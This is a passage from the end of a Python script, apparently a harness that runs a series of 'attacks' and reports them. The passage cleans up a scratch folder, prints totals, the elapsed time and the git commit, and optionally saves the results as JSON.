            shutil.rmtree(root, ignore_errors=True)
        else:
            print(f"# scratch folder kept: {root}")
    print(totals(results))
    print(f"\n{len(results)} attacks in {time.monotonic() - t:.0f} s; commit "
          + subprocess.run(["git", "rev-parse", "--short", "HEAD"], capture_output=True,
                           text=True, cwd=Path(__file__).parent).stdout.strip())
    if args.json:
        Path(args.json).write_text(json.dumps([r.__dict__ for r in results], indent=1,
                                              ensure_ascii=False))
    return 0


if __name__ == "__main__":
    sys.exit(main())
